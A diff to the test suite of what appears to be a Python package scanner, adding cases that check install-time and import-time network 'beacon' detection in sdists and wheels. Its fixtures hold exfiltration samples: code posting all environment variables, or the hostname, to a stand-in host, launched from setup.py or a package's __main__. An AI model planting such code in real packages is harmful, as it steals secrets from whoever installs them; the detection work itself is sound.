@@ -20,7 +20,7 @@ from pratique.facts.payload import contents, is_python, wave_frames
 from pratique.finding import Phase
 from pratique.screen import screen_bytes
 from pratique.verdict import Report, Verdict
-from tests.support.distributions import make_wheel_of
+from tests.support.distributions import make_sdist, make_wheel_of
 
 _CODE = b"import os, urllib.request as u\nu.urlopen('http://192.0.2.1/', data=str(dict(os.environ)).encode())\n"
 _TEXT = base64.b64encode(_CODE)
@@ -164,3 +164,30 @@ def test_any_bytes_are_looked_into(data: bytes, head: bytes) -> None:
     """No bytes make it raise, and it ends."""
     assert next(iter(contents(head + data))).data == head + data
     assert len(list(contents(head + data))) < 100
+
+
+@pytest.mark.parametrize(
+    ("command", "path"),
+    [
+        ("[sys.executable, '-m', 'example_pkg.first']", "example_pkg/first.py"),
+        ("'python -m example_pkg.first'", "example_pkg/first.py"),
+        ("[sys.executable, '-m', 'example_pkg']", "example_pkg/__main__.py"),
+    ],
+)
+def test_a_module_that_a_build_starts_by_name_is_read_as_part_of_the_build(command: str, path: str) -> None:
+    """``python -m`` runs a module with its main guard, or the ``__main__`` of a package."""
+    guarded = "import requests, socket\nif __name__ == '__main__':\n    requests.post('http://192.0.2.1/', data=socket.gethostname())\n"
+    setup = f"import os, subprocess, sys\nsubprocess.call({command}, shell=True)\n"
+    built = make_sdist("example-pkg", "1.0", {"setup.py": setup, path: guarded})
+    found = screen_bytes(built.data, filename=built.filename).findings
+    assert (path, Phase.INSTALL) in {(f.path, f.phase) for f in found if f.rule == "beacon"}
+
+
+@pytest.mark.parametrize("imported", [False, True], ids=["started by people", "imported"])
+def test_a_main_module_runs_by_itself_only_where_something_imports_it(imported: bool) -> None:  # noqa: FBT001 - a case
+    """What ``python -m`` would run is called by people, unless a module of the package imports it."""
+    init = b"import example_pkg.__main__\n" if imported else b"\n"
+    main = b"import requests, socket\nrequests.post('http://192.0.2.1/', data=socket.gethostname())\n"
+    data = make_wheel_of({_MODULE: init, "example_pkg/__main__.py": main})
+    found = screen_bytes(data, filename="example_pkg-1.0-py3-none-any.whl").findings
+    assert (Phase.IMPORT in {f.phase for f in found if f.rule == "beacon"}) is imported
